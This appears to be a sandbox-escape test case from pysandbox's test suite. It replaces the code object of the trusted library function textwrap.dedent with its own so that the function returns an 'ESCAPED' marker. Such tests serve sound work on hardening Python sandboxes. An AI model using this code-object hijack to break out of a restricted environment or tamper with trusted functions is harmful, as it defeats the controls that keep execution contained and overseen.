# technique: the code of a trusted function assigned
# goal: bend
# source: pysandbox, test_readonly_import
import textwrap


def ours(text):
    return 'ESCAPED trusted function bent'


textwrap.dedent.__code__ = ours.__code__
print(textwrap.dedent(''))
